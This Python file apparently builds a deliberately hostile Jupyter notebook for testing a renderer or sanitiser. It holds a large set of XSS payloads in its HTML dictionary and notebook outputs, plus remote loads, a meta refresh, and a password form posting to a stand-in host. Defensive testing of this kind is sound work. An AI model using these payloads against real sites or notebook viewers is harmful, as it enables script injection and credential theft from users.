"""A notebook in which everything means harm; `{away}` stands for a server elsewhere."""

import json

MARK = "harm-was-done"
_BOOM = f"document.title='{MARK}';alert(1)"
PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5E"
    "rkJggg=="
)

HTML = {
    "script": f"<script>{_BOOM}</script>",
    "script elsewhere": '<script src="{away}/x.js"></script>',
    "half a script": f"<scr<script>ipt>{_BOOM}</scr</script>ipt>",
    "module": f'<script type="module">{_BOOM}</script>',
    "handler": f'<img src="x" onerror="{_BOOM}"><b onmouseover="{_BOOM}" onclick="{_BOOM}">b</b>',
    "handler without quotes": "<img/src=x/onerror=alert(1)//>",
    "autofocus": f'<input autofocus onfocus="{_BOOM}">',
    "open details": f'<details open ontoggle="{_BOOM}">x</details>',
    "frame": '<iframe src="{away}/frame"></iframe><iframe srcdoc="<script>alert(1)'
    '</script>"></iframe>',
    "object": '<object data="{away}/o"></object><embed src="{away}/e"><applet code="x"></applet>',
    "svg": f'<svg onload="{_BOOM}"><script>{_BOOM}</script><image href="{{away}}/i"/></svg>',
    "svg animation": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a>',
    "math": '<math><maction xlink:href="javascript:alert(1)">x</maction></math>',
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
    'onerror=alert(1)&gt;">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "links": f'<a class="evil" href="javascript:{_BOOM}">one</a>'
    '<a href="java\tscript:alert(1)">two</a><a href=" &#106;avascript:alert(1)">three</a>'
    '<a href="data:text/html,<script>alert(1)</script>">four</a><a href="vbscript:x">five</a>'
    '<a href="//{host}/five">six</a><a href="/api/v1/forecasts">seven</a>',
    "image map": '<map name="m"><area href="javascript:alert(1)" coords="0,0,9,9"></map>',
    "styles": "<style>body{display:none} @import '{away}/s.css'; "
    "main{background:url({away}/u)}</style>",
    "linked styles": '<link rel="stylesheet" href="{away}/l.css"><link rel="prefetch" '
    'href="{away}/p"><link rel="dns-prefetch" href="{away}">',
    "cover": '<div class="cover" style="position:fixed;inset:0;z-index:9999;background:red;'
    'width:100vw;height:100vh;margin:-500px">covered</div>',
    "style loads": '<p style="background-image:url({away}/b);list-style:url({away}/l)">p</p>'
    '<td background="{away}/td"><body background="{away}/body">',
    "pictures": '<img src="{away}/pixel.png"><img srcset="{away}/set.png 2x"><video '
    'poster="{away}/v" src="{away}/v"></video><audio src="{away}/a" autoplay></audio><picture>'
    '<source srcset="{away}/p"></picture>',
    "picture with a script": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "refresh": '<meta http-equiv="refresh" content="0;url={away}/refresh"><base href="{away}/">',
    "form": '<form action="{away}/form"><input name="password"><button formaction="{away}/b">Send'
    "</button></form>",
    "unclosed": '</div></section></main></body></html><textarea><title><plaintext><!-- <b "',
    "comment": "<!--><script>alert(1)</script>-->",
    "template": '<template shadowrootmode="open"><script>alert(1)</script></template>',
    "names": '<p id="location" name="cookie"><a id="defaultView" name="body" href="#x">n</a></p>',
}


def hostile_notebook(away: str = "http://elsewhere.invalid") -> bytes:
    """Each piece as displayed HTML and in Markdown, and other harm around it."""
    host = away.removeprefix("http://")
    pieces = [html.replace("{away}", away).replace("{host}", host) for html in HTML.values()]
    displays = [_displayed({"text/html": piece}) for piece in pieces]
    others = [
        _displayed({"application/javascript": f"alert('{MARK}')"}),
        _displayed({"image/svg+xml": f"<svg onload='alert(1)'><image href='{away}/svg'/></svg>"}),
        _displayed({"image/png": f'x" onerror="alert(1)" src="{away}/png'}),
        _displayed({'x/<img src=x onerror="alert(1)">': "named"}),
        _displayed({"text/plain": "<script>alert(1)</script>"}),
        _displayed({"text/latex": "$$</pre><script>alert(1)</script>$$"}),
        {"output_type": "stream", "name": "<b>", "text": ["<script>alert(1)</script>\n"]},
        {
            "output_type": "error",
            "ename": "<img src=x onerror=alert(1)>",
            "evalue": "</p><script>alert(1)</script>",
            "traceback": ["\x1b[0;31m<script>alert(1)</script>\x1b[0m"],
        },
        {"output_type": "<script>alert(1)</script>"},
    ]
    cells = [
        *({"cell_type": "markdown", "source": piece} for piece in pieces),
        {
            "cell_type": "markdown",
            "source": f"[x](javascript:alert(1)) ![y]({away}/md.png) <{away}>",
        },
        {"cell_type": "raw", "source": "<script>alert(1)</script>"},
        {
            "cell_type": "code",
            "source": "'</pre><script>alert(1)</script>'",
            "outputs": [*displays, *others],
        },
    ]
    return json.dumps(
        {"cells": cells, "nbformat": 4, "nbformat_minor": 5, "metadata": {"title": "<script>"}}
    ).encode()


def _displayed(bundle: dict[str, str]) -> dict[str, object]:
    return {"output_type": "display_data", "data": bundle}
